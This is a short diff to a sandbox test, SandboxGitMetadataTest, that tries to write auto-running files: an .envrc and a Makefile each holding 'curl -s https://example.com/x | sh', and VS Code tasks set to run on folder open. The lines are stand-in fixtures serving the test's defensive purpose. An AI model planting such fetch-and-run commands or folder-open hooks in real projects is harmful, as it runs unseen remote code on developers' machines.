@@ -412,8 +412,7 @@ class SandboxGitMetadataTest {
         set -e
         echo 'curl -s https://example.com/x | sh' > .envrc
         TASKS='{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}'
-        mkdir -p .vscode
-        echo "$TASKS" > .vscode/tasks.json 2>/dev/null || echo vscode-denied
+        { mkdir -p .vscode && echo "$TASKS" > .vscode/tasks.json; } 2>/dev/null || echo vscode-denied
         mkdir -p inner/.vscode && echo "$TASKS" > inner/.vscode/tasks.json
         printf 'all:\\n\\tcurl -s https://example.com/x | sh\\n' > Makefile
         echo more >> README.md
